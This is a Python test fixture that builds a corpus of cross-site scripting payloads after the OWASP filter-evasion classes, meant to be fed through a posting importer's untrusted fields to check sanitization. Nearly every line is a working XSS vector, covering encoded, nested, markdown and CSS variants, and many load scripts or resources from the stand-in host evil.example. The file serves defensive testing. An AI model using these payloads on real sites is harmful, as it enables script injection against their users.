"""An XSS corpus after the classes of the OWASP "XSS Filter Evasion Cheat Sheet".

Every payload either calls alert/confirm/prompt or touches the foreign host `evil.example`, so
that if one ever runs or loads in a browser, a dialog or a foreign request gives it away.
tests/e2e/test_xss.py puts each one through every untrusted field of a posting file.
"""

EVIL = "evil.example"

# "<script>alert(1)</script>" as a data: document, base64-encoded.
_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
# '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', base64-encoded.
_SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

PAYLOADS = [
    # Basic XSS test without filter evasion; XSS locator; script from a foreign source.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "'';!--\"<XSS>=&{()}<script>confirm(document.domain)</script>",
    '<script/xss src="http://evil.example/xss.js"></script>',
    # Image, SVG and body with onerror/onload; other elements that fire events on their own.
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<svg onload=alert(1)>",
    "<svg/onload=prompt(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=confirm(1)>",
    '<img src=x:alert(alt) onerror="eval(src)" alt=0>',
    # Case, whitespace, tab and newline obfuscation inside tags and javascript: URLs.
    "<ScRiPt>alert(1)</sCrIpT>",
    '<IMG SRC="jav\tascript:alert(1);"><a href="jav\tascript:alert(1)">tab</a>',
    '<a href="java\nscript:alert(1)">newline</a><a href=" \x0e javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">mixed case</a>',
    '<IMG\nSRC\n=\n"x"\nonerror\n=\n"alert(1)"\n>',
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    # HTML entities: decimal, hex, without semicolons, zero-padded; text already escaped.
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    '&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">decimal</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000049&#0000041">padded</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65'
    '&#x72&#x74&#x28&#x31&#x29">hex</a>',
    '<IMG SRC="jav&#x09;ascript:alert(1);"><a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    # Malformed tags and quotes: unclosed, extra brackets and quotes, backticks.
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<img src=x onerror=alert(1)//",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<iframe src=http://evil.example/frame <",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    # Nested tags that a one-pass filter would reassemble.
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<sc<script>ript>alert(1)</sc</script>ript><img src=x o<b>nerror=alert(1)>",
    # Null bytes (the importer strips NUL or refuses the file; the admin refuses it).
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<img src=x o\x00nerror=alert(1)><a href="java\x00script:alert(1)">nul</a>',
    # javascript:, vbscript: and data: URLs in every attribute that takes a URL.
    '<a href="javascript:alert(1)">js link</a>',
    '<a href="vbscript:alert(1)">vbs link</a>',
    f'<a href="data:text/html;base64,{_SCRIPT_B64}">data link</a>',
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object><object data="http://evil.example/o.swf">',
    f'<embed src="data:image/svg+xml;base64,{_SVG_B64}"><embed src="http://evil.example/e">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button>',
    '<input type="image" src="http://evil.example/i.png" formaction="javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_SCRIPT_B64}">',
    '<BASE HREF="http://evil.example/"><base href="javascript:alert(1)//">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<div style="background-image: url(javascript:alert(1))">style url()</div>',
    '<TABLE BACKGROUND="http://evil.example/bg.png"><TR><TD BACKGROUND="javascript:alert(1)">'
    "x</TD></TR></TABLE>",
    '<BODY BACKGROUND="javascript:alert(1)"><img dynsrc="javascript:alert(1)">',
    # CSS: expression(), behavior, -moz-binding, url() in style sheets.
    '<div style="width: expression(alert(1));">expression</div>',
    '<div style="x:expr/**/ession(alert(1))">commented expression</div>',
    '<div style="behavior: url(http://evil.example/xss.htc);">behavior</div>',
    '<STYLE>BODY{-moz-binding:url("http://evil.example/xss.xml#xss")}</STYLE>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
    '<div style="background:url(http://evil.example/bg.png)">foreign background</div>',
    # Event handlers of many kinds, on elements the allow-list keeps and ones it drops.
    '<a href="https://example.com/" onclick="alert(1)" onmouseover="alert(1)">a</a>',
    "<p onpointerenter=alert(1) onfocusin=alert(1)>p</p><h2 onclick=alert(1)>h2</h2>",
    '<div onanimationstart=alert(1) style="animation:spin 1s">animation</div>',
    "<select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)>",
    "<style onload=alert(1)></style><marquee onstart=alert(1)>m</marquee>",
    "<table><tr><td onmouseover=alert(1)>cell</td></tr></table><ol onclick=alert(1)><li>l</ol>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # SVG and MathML namespaces, including namespace-confusion (mXSS) vectors.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    '<svg><image href="http://evil.example/i.png"/><use href="http://evil.example/u.svg#x"/>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">math link</math><math><maction actiontype="statusline">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
    "<a id=x><text x=20 y=20>click</text></a></svg>",
    # Breaking out of attributes and templates: double quote, single quote, backtick.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) x=`",
    "{{constructor.constructor('alert(1)')()}} {% debug %} ${alert(1)}",
    # Script contexts: the detail page's JSON-LD <script>, comments, U+2028/U+2029.
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    '<!-- --><script>alert(1)</script><!-- "',
    "\u2028alert(1)\u2029</script><script>alert(1)//",
    '-->"><svg onload=alert(1)>',
    # Markdown: links and images with script URLs, autolinks, reference links, raw HTML.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1)) [y]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1)) [y](java%0ascript:alert(1))",
    "![x](javascript:alert(1)) ![y](http://evil.example/md.png)",
    "<javascript:alert(1)> <vbscript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    f"[x](data:text/html;base64,{_SCRIPT_B64}) [y](vbscript:alert(1))",
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.com/)",
    '<http://evil.example/"onmouseover="alert(1)>',
    "<div>\n<script>alert(1)</script>\n</div>\n\n<p onclick=alert(1)>raw block</p>",
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
    # UTF-7 and other charset tricks; full-width and escaped spellings of <script>.
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # Requests to a foreign host: images, style sheets, @import, scripts, media.
    "<img src=http://evil.example/x>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import 'http://evil.example/i.css';</style>",
    "<style>@import url(//evil.example/u.css);</style>",
    "<script src=//evil.example/x.js></script>",
    '<video poster="http://evil.example/p.png"></video><img srcset="http://evil.example/s 1x">',
    '<link rel="prefetch" href="http://evil.example/p"><link rel="icon" href="//evil.example/i">',
]
